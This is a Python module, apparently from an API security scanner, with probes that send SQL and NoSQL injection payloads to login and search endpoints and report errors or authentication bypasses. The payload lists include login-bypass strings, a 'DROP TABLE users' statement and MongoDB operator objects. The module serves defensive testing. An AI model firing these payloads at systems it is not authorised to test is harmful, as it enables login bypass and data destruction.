"""
Injection probes: SQL and NoSQL payloads against login and search endpoints.

A finding is a 5xx, a database / stack-trace signature in the body, or a
login that hands out a token for an attack payload. Clean 4xx answers are
what a hardened API should return.
"""

import logging

from apisec.auth.helper import auth_headers, extract_token
from apisec.probes.base import BaseProbe, ProbeContext, error_leak, is_absent, request_evidence
from apisec.transport import send

log = logging.getLogger(__name__)

SQLI_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "' OR ''='",
    '" OR ""="',
    "'; DROP TABLE users;--",
    "' UNION SELECT NULL--",
    "1' AND '1'='2",
    "')) OR 1=1--",
]

NOSQL_PAYLOADS = [
    {"email": {"$ne": None}, "password": {"$ne": None}},
    {"email": {"$gt": ""}, "password": {"$gt": ""}},
    {"email": {"$regex": ".*"}, "password": {"$regex": ".*"}},
    {"username": {"$ne": None}, "password": {"$ne": None}},
    {"email": "admin@example.com", "password": {"$ne": "wrong"}},
    {"$where": "1 == 1"},
]

SEARCH_TARGETS = [
    ("/api/users", "q"),
    ("/api/search", "q"),
    ("/search", "q"),
    ("/api/transactions", "search"),
    ("/api/accounts", "filter"),
]

INJECTION_RECOMMENDATIONS = [
    "Use parameterized queries for every database call",
    "Reject operator objects ($ne, $gt, $regex) in user-supplied JSON",
    "Return generic 400 errors without database messages",
]


class SqlInjectionLoginProbe(BaseProbe):
    name = "sqli-login"
    title = "Injection: SQL injection on login"
    category = "API8_INJECTION"

    async def run(self, ctx: ProbeContext) -> None:
        path = await ctx.auth.find_login_endpoint()
        if path is None:
            ctx.reporter.report_skip("no login endpoint found")
            return

        findings: list[dict] = []
        for payload in SQLI_PAYLOADS:
            body = {"email": payload, "username": payload, "password": payload}
            resp = await send(ctx.client, "POST", path, json_body=body)
            if resp.failed:
                continue
            issue = error_leak(resp)
            if issue is None and resp.status_code in (200, 201) and extract_token(resp):
                issue = "authentication bypass: token issued for injected credentials"
            if issue:
                findings.append(request_evidence(resp, payload=payload, issue=issue))

        if findings:
            ctx.reporter.report_vulnerability(self.category, {
                "endpoint": path,
                "findings": findings,
                "issue": f"{len(findings)} SQL payloads produced errors or bypassed login",
            }, INJECTION_RECOMMENDATIONS)
        else:
            ctx.reporter.report_pass(
                f"Login endpoint {path} handled {len(SQLI_PAYLOADS)} SQL payloads without errors",
                self.category,
            )


class SqlInjectionQueryProbe(BaseProbe):
    name = "sqli-query"
    title = "Injection: SQL injection in query parameters"
    category = "API8_INJECTION"

    async def run(self, ctx: ProbeContext) -> None:
        session = await ctx.auth.ensure_session()
        headers = auth_headers(session)
        findings: list[dict] = []
        tested: list[str] = []

        for path, param in SEARCH_TARGETS:
            baseline = await send(ctx.client, "GET", path, params={param: "test"}, headers=headers)
            if is_absent(baseline) or error_leak(baseline):
                continue
            tested.append(f"{path}?{param}=")
            for payload in SQLI_PAYLOADS:
                resp = await send(ctx.client, "GET", path, params={param: payload}, headers=headers)
                issue = None if resp.failed else error_leak(resp)
                if issue:
                    findings.append(request_evidence(resp, parameter=param, payload=payload, issue=issue))

        if not tested:
            ctx.reporter.report_skip("no searchable endpoint answered a baseline request")
        elif findings:
            ctx.reporter.report_vulnerability(self.category, {
                "tested": tested,
                "findings": findings,
            }, INJECTION_RECOMMENDATIONS)
        else:
            ctx.reporter.report_pass(
                f"No SQL errors on {len(tested)} query parameters ({', '.join(tested)})",
                self.category,
            )


class NoSqlInjectionProbe(BaseProbe):
    name = "nosqli-login"
    title = "Injection: NoSQL operator injection on login"
    category = "API8_INJECTION"

    async def run(self, ctx: ProbeContext) -> None:
        path = await ctx.auth.find_login_endpoint()
        if path is None:
            ctx.reporter.report_skip("no login endpoint found")
            return

        findings: list[dict] = []
        for payload in NOSQL_PAYLOADS:
            resp = await send(ctx.client, "POST", path, json_body=payload)
            if resp.failed:
                continue
            issue = error_leak(resp)
            if issue is None and resp.status_code in (200, 201) and extract_token(resp):
                issue = "authentication bypass: token issued for operator payload"
            if issue:
                findings.append(request_evidence(resp, payload=payload, issue=issue))

        if findings:
            ctx.reporter.report_vulnerability(self.category, {
                "endpoint": path,
                "findings": findings,
            }, INJECTION_RECOMMENDATIONS)
        else:
            ctx.reporter.report_pass(
                f"Login endpoint {path} rejected {len(NOSQL_PAYLOADS)} NoSQL operator payloads",
                self.category,
            )
